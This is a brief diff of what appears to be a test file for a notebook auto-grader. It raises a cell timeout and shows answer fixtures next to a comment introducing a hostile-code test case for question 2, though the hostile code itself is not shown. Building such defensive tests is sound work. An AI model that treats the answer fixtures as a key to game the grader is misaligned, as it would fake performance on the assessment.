@@ -44,7 +44,7 @@ PARTLY_WRONG = {**RIGHT, "answer_q2": '"a"', "answer_q3": '"c"', "answer_q4": "T
 REFLECTION = "Persona: Rosa, a night-shift nurse; an e-book drop-in at the hospital at 7 am."
 ON_TIME = "2025-01-10 09:00:00.000000 UTC"
 LATE = "2025-01-20 09:00:00.000000 UTC"
-CELL_TIMEOUT = 6
+CELL_TIMEOUT = 15  # generous: honest cells must never hit it on a loaded 2-core CI machine
 
 #: Hostile code, placed in the answer cell of question 2 (answer_q2) before the answer.
 #: ``{course}``, ``{canary}`` and ``{port}`` are filled in. Expected automatic points.
